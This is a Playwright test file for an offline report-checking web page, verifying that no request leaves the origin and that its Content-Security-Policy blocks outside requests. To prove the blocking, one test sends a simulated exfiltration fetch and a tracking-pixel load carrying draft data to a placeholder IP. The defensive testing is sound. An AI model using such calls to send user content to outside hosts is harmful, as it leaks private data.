// No network, proven: while a draft is checked, fixed, exported, printed and
// reloaded, no request leaves the page's origin, and the Content-Security-Policy
// blocks any that would. And the one offline file: built from www/, opened from
// disk (file://) with no server, it checks a draft and loads nothing else.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { chromium } from 'playwright-core';
import { draft, paste, ROOT, CHROMIUM_ARGS } from './helpers.mjs';
import { load, report, afterCheck, ready, editorState, skip, usePage } from './page-helpers.mjs';

const outside = [];
const shared = usePage({
  seed: false,
  // Every request of the browser context, page or not; anything off the origin is recorded and refused.
  async setUp({ ctx }) {
    await ctx.page.context().route('**/*', (route) => {
      const url = route.request().url();
      if (url.startsWith(ctx.base)) return route.continue();
      outside.push(url);
      return route.abort();
    });
  },
});

test('checking, fixing, ignoring, exporting, printing and reloading a draft makes no request off the origin', { skip }, async () => {
  const { page, ctx: { requests, base } } = shared;
  const text = draft('seed000.txt', 'www/sample.txt');
  await load(page, text);
  const r = await report(page);
  const safe = r.diagnostics.findIndex((d) => d.suggestions.some((s) => s.applicability === 'safe'));
  if (safe >= 0) await afterCheck(page, () => page.locator(`.item[data-index="${safe}"] .fix .apply`).first().click());
  await page.locator('.item .ignore').first().click();
  await page.locator('.item .jump').first().click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export')]);
  assert.ok(JSON.parse(fs.readFileSync(await download.path(), 'utf8')).findings.length > 0);
  await page.evaluate(() => { window.print = () => { window.__printed = true; }; });
  await page.click('#print');
  await page.waitForFunction(() => window.__printed);
  await page.click('#sample');
  await page.reload();
  await ready(page);
  assert.ok((await editorState(page)).value.length > 0);
  // Local object URLs (the JSON download) are not requests to anywhere.
  const off = requests.filter((u) => !u.startsWith(base) && !u.startsWith(`blob:${base.slice(0, -1)}`));
  assert.deepEqual(off, []);
  assert.deepEqual(outside, []);
  assert.ok(requests.some((u) => u.endsWith('.wasm')), 'the wasm came from the page\'s own files');
});

test('the page loads two scripts (the wasm starter and one bundle) and the wasm once: no module graph arriving in rounds', { skip }, async () => {
  const { page } = shared;
  await page.reload();
  await ready(page);
  const loaded = await page.evaluate(() => performance.getEntriesByType('resource')
    .filter((r) => /\.(js|wasm)$/.test(r.name)).map((r) => new URL(r.name).pathname.slice(1)).sort());
  assert.deepEqual(loaded, ['page/boot.js', 'pkg/page.js', 'pkg/report_checker_bg.wasm']);
});

test('the Content-Security-Policy allows only the page\'s own files: a request elsewhere is blocked', { skip }, async () => {
  const { page } = shared;
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  assert.match(csp, /default-src 'none'/);
  assert.doesNotMatch(csp, /https?:|\*/, 'no remote source is allowed');
  const result = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`));
    let fetched = 'sent';
    try {
      await fetch('http://192.0.2.1/collect?draft=1');
    } catch {
      fetched = 'blocked';
    }
    const img = new Image();
    img.src = 'http://192.0.2.1/pixel.gif';
    await new Promise((resolve) => { img.onerror = resolve; img.onload = resolve; });
    await new Promise((resolve) => setTimeout(resolve, 50));
    return { fetched, violations };
  });
  assert.equal(result.fetched, 'blocked');
  assert.ok(result.violations.some((v) => v.startsWith('connect-src')), result.violations.join());
  assert.ok(result.violations.some((v) => v.startsWith('img-src')), result.violations.join());
  assert.deepEqual(outside, [], 'the CSP stopped them before they left');
});

test('the single offline file works opened from disk: checks, explains, restores, loads nothing else', { skip }, async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'rc-offline-'));
  const file = path.join(dir, 'report-checker.html');
  execFileSync(process.execPath, [path.join(ROOT, 'scripts', 'build-page.mjs'), '--out', file], { stdio: 'pipe' });
  const html = fs.readFileSync(file, 'utf8');
  assert.doesNotMatch(html, /<(script|link)[^>]+(src|href)="(?!data:)/, 'no outside file is referenced');
  const browser = await chromium.launch({ executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium', args: CHROMIUM_ARGS });
  try {
    const page = await browser.newPage({ viewport: { width: 1366, height: 768 } });
    const requests = [];
    const errors = [];
    page.on('request', (r) => requests.push(r.url()));
    page.on('pageerror', (e) => errors.push(String(e)));
    page.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
    const url = `file://${file}`;
    await page.goto(url);
    await ready(page);
    const text = draft('seed000.txt', 'www/sample.txt');
    await paste(page, text);
    const r = await report(page);
    const errorsFound = r.diagnostics.filter((d) => d.severity === 'error').length;
    assert.equal(await page.locator('#verdict .headline').textContent(), `有 ${errorsFound} 处错误需要修改`);
    assert.ok(await page.locator('#editor').evaluate((ed) => ed.previousElementSibling.querySelectorAll('mark').length) > 0);
    await page.keyboard.press('F8');
    assert.ok(await page.locator('#explain').isVisible());
    // The report export, a module loaded on first use, is inside the file too.
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export')]);
    assert.equal(JSON.parse(fs.readFileSync(await download.path(), 'utf8')).findings.length, r.diagnostics.length);
    await afterCheck(page, () => page.click('#sample'));
    assert.match((await editorState(page)).value, /工作总结/);
    await page.reload();
    await ready(page);
    assert.match((await editorState(page)).value, /工作总结/, 'the draft is restored from the browser under file:// too');
    assert.deepEqual(requests.filter((u) => u !== url), []);
    assert.deepEqual(errors, []);
  } finally {
    await browser.close();
    fs.rmSync(dir, { recursive: true, force: true });
  }
});
